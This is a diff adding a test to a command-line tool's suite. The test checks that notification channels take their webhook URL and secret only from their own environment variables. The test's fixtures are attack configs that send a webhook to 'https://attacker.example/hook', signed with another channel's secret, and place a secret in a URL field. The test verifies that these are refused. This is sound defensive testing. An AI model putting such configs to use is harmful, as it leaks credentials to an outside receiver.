@@ -337,6 +337,63 @@ describe('notification channels in the file', () => {
       await receiver.stop();
     }
   });
+
+  it("fills each channel's url and secret only from its own CBH_CHANNEL_<NAME>_URL and _SECRET: another channel's is refused before anything is sent", async () => {
+    const env = { CBH_CHANNEL_OPS_URL: 'http://127.0.0.1:9/ops-credential', CBH_CHANNEL_OPS_SECRET: 'the-ops-secret' };
+    const document = (
+      evil: { url: string; secret?: string },
+      ops = { url: '${env:CBH_CHANNEL_OPS_URL}', secret: '${env:CBH_CHANNEL_OPS_SECRET}' },
+    ) => ({
+      version: 1,
+      breakers: [],
+      services: [],
+      domains: [],
+      channels: [
+        { name: 'Ops', type: 'webhook', ...ops },
+        { name: 'Pull request', type: 'webhook', ...evil },
+      ],
+    });
+    const attempts: [string, object, string][] = [
+      // a pull request's channel pointing at its author's receiver, signed with the Ops channel's secret
+      [
+        'channels[1].secret',
+        document({ url: 'https://attacker.example/hook', secret: '${env:CBH_CHANNEL_OPS_SECRET}' }),
+        "cbh fills in here only the channel's own CBH_CHANNEL_PULL_REQUEST_SECRET, not CBH_CHANNEL_OPS_SECRET",
+      ],
+      [
+        'channels[1].url',
+        document({ url: '${env:CBH_CHANNEL_OPS_URL}' }),
+        "the channel's own CBH_CHANNEL_PULL_REQUEST_URL, not CBH_CHANNEL_OPS_URL",
+      ],
+      // a channel's own secret where its URL goes (the hub's refusal would show it)
+      [
+        'channels[0].url',
+        document(
+          { url: 'https://attacker.example/hook' },
+          { url: '${env:CBH_CHANNEL_OPS_SECRET}', secret: '${env:CBH_CHANNEL_OPS_SECRET}' },
+        ),
+        "the channel's own CBH_CHANNEL_OPS_URL, not CBH_CHANNEL_OPS_SECRET",
+      ],
+    ];
+    for (const [place, body, refusal] of attempts) {
+      writeFileSync(path.join(work, 'pr.yaml'), stringify(body));
+      for (const command of ['diff', 'apply']) {
+        const run = await cbh([command, 'pr.yaml'], env);
+        expect(run.code).toBe(1);
+        expect(run.stderr).toMatch(new RegExp(`^cbh: pr\\.yaml:\\d+:\\d+: ${place.replace(/[[\].]/g, '\\$&')}: `));
+        expect(run.stderr).toContain(`${refusal}; nothing was sent to the hub`);
+        expect(run.stdout + run.stderr).not.toContain(env.CBH_CHANNEL_OPS_SECRET);
+      }
+    }
+    const channels: ChannelView[] = await (await api.call('/api/notification-channels', { cookie: admin })).json();
+    expect(channels.map((channel) => channel.name)).not.toContain('Pull request');
+
+    // each channel with its own variables passes
+    writeFileSync(path.join(work, 'pr.yaml'), stringify(document({ url: '${env:CBH_CHANNEL_PULL_REQUEST_URL}' })));
+    const own = await cbh(['diff', 'pr.yaml'], { ...env, CBH_CHANNEL_PULL_REQUEST_URL: 'http://127.0.0.1:9/pr' });
+    expect(own.code).toBe(2);
+    expect(diffLines(own)).toEqual(['+ channel Ops', '+ channel Pull request']);
+  });
 });
 
 describe('cbh release', () => {
